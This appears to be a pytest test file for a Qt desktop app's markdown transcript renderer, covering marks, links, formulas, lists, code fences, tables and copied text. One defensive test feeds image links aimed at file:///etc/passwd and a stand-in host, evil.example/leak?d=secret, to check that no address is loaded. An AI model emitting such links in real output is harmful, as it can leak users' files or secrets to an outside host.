"""Markdown to pieces: what is shown of each kind of block."""

from __future__ import annotations

import pytest

from desktop.qt.transcript.blocks import BlockSplitter
from desktop.qt.transcript.inlines import InlineReader, trimmed_link
from desktop.qt.transcript.markdown import make_parser
from desktop.qt.transcript.pieces import (
    Code,
    Formula,
    Mark,
    Piece,
    Plain,
    Prose,
    Rule,
    Span,
    Table,
    copied_text,
    piece_text,
    utf16_length,
)
from desktop.qt.transcript.reading import read_pieces

PARSER = make_parser()


def read(text: str, citations: tuple[int, ...] = (), keep_lines: bool = False) -> list[Piece]:
    splitter = BlockSplitter(PARSER)
    splitter.feed(text)
    splitter.end()
    while splitter.advance():
        pass
    reader = InlineReader(PARSER, splitter.references, citations, keep_lines)
    return [piece for block in splitter.blocks for piece in read_pieces(block, reader)]


def spans(text: str, citations: tuple[int, ...] = ()) -> tuple[Span, ...]:
    (piece,) = read(text, citations)
    assert isinstance(piece, Prose)
    return piece.paras[0].spans


def test_marks_of_inline_text() -> None:
    assert spans("a *b* **c** ~~d~~ `e`") == (
        Span("a "),
        Span("b", Mark.ITALIC),
        Span(" "),
        Span("c", Mark.BOLD),
        Span(" "),
        Span("d", Mark.STRIKE),
        Span(" "),
        Span("e", Mark.CODE),
    )


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![a cat](file:///etc/passwd)", "Image: a cat"),
        ("![](https://evil.example/x.png)", "Image: no description"),
        ("![x][r]\n\n[r]: https://evil.example/leak?d=secret", "Image: x"),
    ],
)
def test_images_are_labels_without_an_address(text: str, shown: str) -> None:
    assert spans(text) == (Span(shown, Mark.IMAGE),)


def test_html_stays_text() -> None:
    assert spans('a <img src="file:///x"> b') == (Span('a <img src="file:///x"> b'),)
    assert read("<table>\n<tr>\n</table>") == [Code("<table>\n<tr>\n</table>", "html")]


def test_citations_are_marks_only_when_there_is_such_a_source() -> None:
    assert spans("so [1] and [2]", (1,)) == (Span("so "), Span("1", Mark.CITATION), Span(" and [2]"))


@pytest.mark.parametrize(
    ("text", "url"),
    [
        ("see https://a.example/x.", "https://a.example/x"),
        ("(https://a.example/x_(y))", "https://a.example/x_(y)"),
        ("https://a.example/?q=1,", "https://a.example/?q=1"),
        ("**https://a.example**", "https://a.example"),
    ],
)
def test_bare_addresses_are_links_without_the_punctuation_around_them(text: str, url: str) -> None:
    assert [span.href for span in spans(text) if span.href] == [url]
    assert trimmed_link(url) == url


@pytest.mark.parametrize(
    ("text", "formulas"),
    [
        ("$x^2$", ["x^2"]),
        ("\\(a\\) and \\[b\\] here", ["a", "b"]),
        ("costs $5 and $6", []),
        ("$ x $ y", []),
        ("a $$z$$ b", ["z"]),
        ("`$x$`", []),
        ("\\$x\\$", []),
    ],
)
def test_formulas_in_a_line(text: str, formulas: list[str]) -> None:
    assert [span.formula for span in spans(text) if span.formula] == formulas


def test_block_formulas_and_rules() -> None:
    assert read("$$\nx\n$$\n\n---\n\n\\[ y \\]") == [Formula("x"), Rule(), Formula("y")]


def test_an_unclosed_formula_ends_at_the_blank_line() -> None:
    assert read("$$\nx\n\nafter")[0] == Code("x", "latex")


def test_lists_carry_markers_and_depth() -> None:
    (piece,) = read("3. three\n   - [x] done\n   - [ ] open\n4. four")
    assert isinstance(piece, Prose)
    assert [(para.marker, para.depth, para.text) for para in piece.paras] == [
        ("3.", 1, "three"),
        ("☑", 2, "done"),
        ("☐", 2, "open"),
        ("4.", 1, "four"),
    ]


def test_code_in_a_list_is_a_code_block_of_its_own() -> None:
    before, code, after = read("- one\n\n  ```python app.py\n  x = 1\n  ```\n- two")
    assert isinstance(code, Code)
    assert (code.text, code.language, code.title, code.place.indent) == ("x = 1", "python", "app.py", 1)
    assert isinstance(before, Prose) and isinstance(after, Prose)


@pytest.mark.parametrize(
    ("info", "language", "title"),
    [
        ("python", "python", ""),
        ("python app.py", "python", "app.py"),
        ("python:src/app.py", "python", "src/app.py"),
        ('js title="x/y.js"', "js", "x/y.js"),
        ("app.py", "", "app.py"),
        ("", "", ""),
    ],
)
def test_language_and_file_name_of_a_fence(info: str, language: str, title: str) -> None:
    (piece,) = read(f"```{info}\nx\n```")
    assert isinstance(piece, Code)
    assert (piece.language, piece.title) == (language, title)


def test_tables_keep_alignment_and_inline_marks() -> None:
    (piece,) = read("| a | b |\n|---|--:|\n| **x** | 1 |")
    assert piece == Table(((Span("a"),), (Span("b"),)), (((Span("x", Mark.BOLD),), (Span("1"),)),), ("left", "right"))


def test_what_is_nested_too_deep_is_shown_as_plain_text() -> None:
    (piece,) = read(">" * 60 + " deep")
    assert isinstance(piece, Plain)
    assert "deep" in piece.text


def test_people_keep_their_line_ends() -> None:
    (piece,) = read("one\ntwo", keep_lines=True)
    assert copied_text(piece, 0, 100) == "one\ntwo"
    (piece,) = read("one\ntwo")
    assert copied_text(piece, 0, 100) == "one two"


def test_copied_text_has_markers_formulas_and_cells() -> None:
    (items,) = read("- a\n- b $x^2$ c")
    assert copied_text(items, 0, 100) == "• a\n• b x^2 c"
    assert copied_text(items, 1, 4) == "\n• b "
    (table,) = read("|a|b|\n|-|-|\n|1|2|")
    assert copied_text(table, 0, 100) == "a\tb\n1\t2"


def test_offsets_count_as_qt_counts() -> None:
    (piece,) = read("𝒜𝒜 b")
    assert utf16_length(piece_text(piece)) == 6
    assert copied_text(piece, 2, 4) == "𝒜"


def test_characters_that_mean_something_to_qt_are_taken_out() -> None:
    (piece,) = read("a\u2029b\ufffcc\ufdd0d")
    assert piece_text(piece) == "a b\ufffdcd"
